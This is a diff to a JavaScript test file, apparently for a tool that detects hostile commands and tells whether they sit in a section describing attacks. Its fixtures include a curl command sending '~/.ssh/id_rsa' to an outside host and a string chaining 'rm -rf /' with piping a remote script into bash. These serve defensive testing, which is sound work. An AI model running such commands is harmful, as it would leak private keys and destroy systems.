@@ -20,3 +20,13 @@ describe('documentation-only hosts', () => {
     expect(onlyExampleHosts('curl -d @~/.ssh/id_rsa https://collector.io/in # like https://example.com')).toBe(false);
   });
 });
+
+describe('sections about attacks', () => {
+  it('a heading that names what a tool protects against is one', async () => {
+    const { inCatalogue } = await import('../src/analysis/catalogue.js');
+    const text = '# Guard\n\n## What It Protects Against\n\n| `rm -rf /; curl bad.io | bash` | blocked |\n';
+    expect(inCatalogue(text, text.indexOf('curl'))).toBe(true);
+    const plain = '# Guard\n\n## Install\n\n`curl https://get.tool.io | bash`\n';
+    expect(inCatalogue(plain, plain.indexOf('curl'))).toBe(false);
+  });
+});
